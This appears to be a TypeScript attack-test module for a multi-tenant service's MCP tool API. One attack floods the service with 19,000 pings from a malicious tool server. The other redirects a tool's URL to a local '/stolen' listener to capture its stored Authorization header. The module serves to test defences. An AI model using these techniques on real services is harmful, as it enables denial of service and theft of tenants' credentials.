// Attacks by a server that a tenant lets the service ask.
import { createServer } from 'node:http';
import type { AddressInfo } from 'node:net';
import { pause } from '../conversation/scenario.ts';
import { type Attack, ask, count, isOver, must } from './attack.ts';

const V1 = '/api/v1';
const PINGS = 19_000;
const PATIENT_MS = 300;
/** How long a session may take to open: so long the tenant's own request may wait. Others must not. */
const OPENS_WITHIN_MS = 5_000;

interface Question {
  id?: number;
  method?: string;
}

const event = (message: object): string => `data: ${JSON.stringify({ jsonrpc: '2.0', ...message })}\n\n`;

/** An MCP server whose catalogue comes after as many pings as one answer may hold, where its path says so. */
async function pingingServer(): Promise<{ url: string; replies(): number; close(): void }> {
  let replies = 0;
  const server = createServer((request, response) => {
    const chunks: Buffer[] = [];
    request.on('data', (chunk: Buffer) => chunks.push(chunk));
    request.on('end', () => {
      if (request.method !== 'POST') return response.writeHead(405).end();
      const { id, method } = JSON.parse(Buffer.concat(chunks).toString()) as Question;
      if (method === undefined) replies++;
      if (id === undefined || method === undefined) return response.writeHead(202).end();
      const serverInfo = { name: 'attacker', version: '1' };
      const result =
        method === 'initialize'
          ? { protocolVersion: '2025-06-18', capabilities: { tools: {} }, serverInfo }
          : { tools: [{ name: 'order', description: '', inputSchema: { type: 'object' } }] };
      const count = method === 'tools/list' && request.url === '/attack' ? PINGS : 0;
      const pings = Array.from({ length: count }, (_, n) => event({ id: `p${n}`, method: 'ping' }));
      return response
        .writeHead(200, { 'content-type': 'text/event-stream' })
        .end([...pings, event({ id, result })].join(''));
    });
  });
  await new Promise<void>((resolve) => server.listen(0, '127.0.0.1', resolve));
  const close = (): void => {
    server.closeAllConnections();
    server.close();
  };
  return { url: `http://127.0.0.1:${(server.address() as AddressInfo).port}`, replies: () => replies, close };
}

export const pings: Attack = {
  name: 'a tenant’s MCP server answers with 19,000 requests of its own',
  async strike(target, untilMs) {
    const { token } = target.tenant;
    const server = await pingingServer();
    try {
      const body = { name: 'pinging', description: 'Finds orders.', kind: 'mcp', url: `${server.url}/control` };
      const { id } = await must<{ id: string }>(target, { method: 'POST', path: `${V1}/tools`, token, body });
      const path = `${V1}/tools/${id}`;
      const statuses: number[] = [];
      let longestMs = 0;
      while (!isOver(untilMs)) {
        for (const way of ['control', 'attack']) {
          const startedAt = performance.now();
          const url = `${server.url}/${way}`;
          statuses.push((await ask(target, { method: 'PATCH', path, token, body: { url } })).status);
          longestMs = Math.max(longestMs, performance.now() - startedAt);
          await pause(PATIENT_MS);
        }
      }
      await must(target, { method: 'DELETE', path, token });
      const replies = server.replies();
      return {
        words: `longest request ${Math.round(longestMs)} ms; ${count(statuses)}; ${replies} requests were answered`,
        succeeded: longestMs > 2 * OPENS_WITHIN_MS || replies > 500,
      };
    } finally {
      server.close();
    }
  },
};

export const movedTool: Attack = {
  name: 'a token that may not read headers moves a tool to another server, and has it asked',
  async strike(target, untilMs) {
    const { token } = target.tenant;
    const seen: string[] = [];
    const server = createServer((request, response) => {
      if (request.url === '/stolen') seen.push(String(request.headers.authorization ?? 'nothing'));
      response.writeHead(200, { 'content-type': 'application/json' }).end('{}');
    });
    await new Promise<void>((resolve) => server.listen(0, '127.0.0.1', resolve));
    const { port } = server.address() as AddressInfo;
    const headers = { Authorization: 'Bearer SECRET-OF-THE-SHOP' };
    const body = { name: 'moved', description: 'Finds orders.', url: 'https://shop.example/orders', headers };
    try {
      const { id } = await must<{ id: string }>(target, { method: 'POST', path: `${V1}/tools`, token, body });
      const path = `${V1}/tools/${id}`;
      while (!isOver(untilMs)) {
        const url = `http://127.0.0.1:${port}/stolen`;
        await ask(target, { method: 'PATCH', path, token, body: { url } });
        await ask(target, { method: 'POST', path: `${path}/test`, token, body: {} });
        await ask(target, { method: 'PATCH', path, token, body: { url: body.url, headers } });
        await pause(PATIENT_MS);
      }
      await must(target, { method: 'DELETE', path, token });
    } finally {
      server.closeAllConnections();
      server.close();
    }
    if (seen.length === 0) throw new Error('the tool was not asked');
    const stolen = seen.filter((header) => header.includes('SECRET')).length;
    return { words: `asked ${seen.length} times, with the secret ${stolen} times`, succeeded: stolen > 0 };
  },
};
